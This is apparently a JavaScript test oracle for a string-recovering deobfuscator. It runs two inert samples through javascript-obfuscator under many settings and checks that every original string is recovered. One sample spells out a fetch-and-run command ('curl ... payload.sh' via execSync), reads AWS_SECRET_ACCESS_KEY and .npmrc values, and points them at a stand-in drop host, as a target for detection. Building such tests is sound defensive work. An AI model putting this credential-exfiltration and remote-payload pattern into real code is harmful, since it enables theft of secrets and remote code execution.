// Obfuscates inert samples with javascript-obfuscator in many ways and asks the evaluator for the texts of the result:
// every text of the sample must be found again.
//   node tests/oracle/obfuscator.mjs EVALUATE_LINES
import { spawnSync } from 'node:child_process';
import process from 'node:process';
import { tool } from './common.mjs';

const { default: obfuscator } = await tool('javascript-obfuscator/dist/index.js');
const [binary] = process.argv.slice(2);

// Inert: the first statement throws, the hosts do not exist.
const samples = [
  {
    texts: ['collector.invalid', '/ingest/v2', 'authorization', 'process env of the build', 'x-sample-header', 'hello wörld ✓'],
    source: (t) => `throw new Error('inert sample');
      function send(options, body) { return [options, body]; }
      const options = { host: '${t[0]}', path: '${t[1]}', headers: {} };
      options.headers['${t[2]}'] = '${t[3]}';
      send(options, '${t[4]}'); send(options, '${t[5]}');`,
  },
  {
    texts: ['drop.example', 'child_process', 'execSync', 'curl -s http://192.0.2.7/payload.sh', 'AWS_SECRET_ACCESS_KEY', '.npmrc', 'utf8'],
    source: (t) => `throw new Error('inert sample');
      (function () {
        const names = ['${t[4]}', '${t[5]}'];
        const run = (module) => module['${t[2]}']('${t[3]}', { encoding: '${t[6]}' });
        function collect(env) { return names.map((n) => env[n]).join('${t[0]}'); }
        console.log(collect, run, '${t[1]}');
      })();`,
  },
];
const settings = [
  { name: 'no encoding', stringArrayEncoding: ['none'] },
  { name: 'base64', stringArrayEncoding: ['base64'] },
  { name: 'rc4', stringArrayEncoding: ['rc4'] },
  { name: 'base64 and rc4', stringArrayEncoding: ['base64', 'rc4'] },
  { name: 'wrappers', stringArrayEncoding: ['base64'], stringArrayWrappersCount: 3, stringArrayWrappersType: 'function', stringArrayWrappersChainedCalls: true },
  { name: 'variable wrappers', stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 2, stringArrayWrappersType: 'variable' },
  { name: 'split strings', stringArrayEncoding: ['base64'], splitStrings: true, splitStringsChunkLength: 4 },
  { name: 'control flow', stringArrayEncoding: ['base64'], controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 },
  { name: 'object keys', stringArrayEncoding: ['rc4'], transformObjectKeys: true, numbersToExpressions: true },
  { name: 'no rotation', stringArrayEncoding: ['base64'], stringArrayRotate: false, stringArrayShuffle: false },
  { name: 'index shift', stringArrayEncoding: ['base64'], stringArrayIndexShift: true, stringArrayCallsTransform: true, stringArrayCallsTransformThreshold: 1 },
  { name: 'high', stringArrayEncoding: ['rc4'], controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, deadCodeInjection: true, deadCodeInjectionThreshold: 1,
    splitStrings: true, stringArrayCallsTransform: true, stringArrayWrappersCount: 5, stringArrayWrappersChainedCalls: true, stringArrayWrappersType: 'function', transformObjectKeys: true },
  { name: 'low preset', optionsPreset: 'low-obfuscation' },
  { name: 'medium preset', optionsPreset: 'medium-obfuscation' },
  // Decodes at every turn of the array: a hundred million steps.
  { name: 'high preset', seeds: [1], optionsPreset: 'high-obfuscation', compact: true },
  { name: 'debug protection', debugProtection: true, disableConsoleOutput: true, stringArrayEncoding: ['base64'] },
  { name: 'self defending', stringArrayEncoding: ['base64'], selfDefending: true, compact: true },
  { name: 'unicode escapes', stringArray: false, unicodeEscapeSequence: true, splitStrings: true, splitStringsChunkLength: 3 },
];

const cases = [];
for (const [i, sample] of samples.entries()) {
  for (const { name, seeds = [1, 2, 3], ...options } of settings) {
    for (const seed of seeds) {
      const code = obfuscator.obfuscate(sample.source(sample.texts), {
        seed, stringArray: true, stringArrayThreshold: 1, stringArrayRotate: true, stringArrayShuffle: true, compact: false, ...options,
      }).getObfuscatedCode();
      cases.push({ name: `sample ${i}, ${name}, seed ${seed}`, texts: sample.texts, code });
    }
  }
}
const input = cases.map(({ code }) => `C${Buffer.from(code).toString('hex')}\n`).join('');
const run = spawnSync(binary, [], { input, maxBuffer: 1 << 30, encoding: 'utf8' });
if (run.status !== 0) throw new Error(`${binary}: ${run.signal ?? run.status} ${run.stderr}`);
const answers = run.stdout.split('\n');
const steps = run.stderr.split('\n');
let found = 0, all = 0, failed = 0;
cases.forEach(({ name, texts, code }, i) => {
  const decoded = answers[i].startsWith('[') ? JSON.parse(answers[i]) : [];
  // A text that stands in the code as it is needs no decoding.
  const missing = texts.filter((text) => !decoded.includes(text) && !code.includes(`'${text}'`));
  all += texts.length;
  found += texts.length - missing.length;
  if (missing.length > 0 && ++failed <= 15) console.log(`${name} (${steps[i]}): missing ${JSON.stringify(missing)} ${answers[i].startsWith('[') ? '' : answers[i]}`);
  if (process.env.SHOW === name) console.log(code, answers[i]);
});
console.log(`${cases.length} obfuscated programs, ${found} of ${all} texts found again, ${failed} programs with a text missing`);
process.exit(failed === 0 ? 0 : 1);
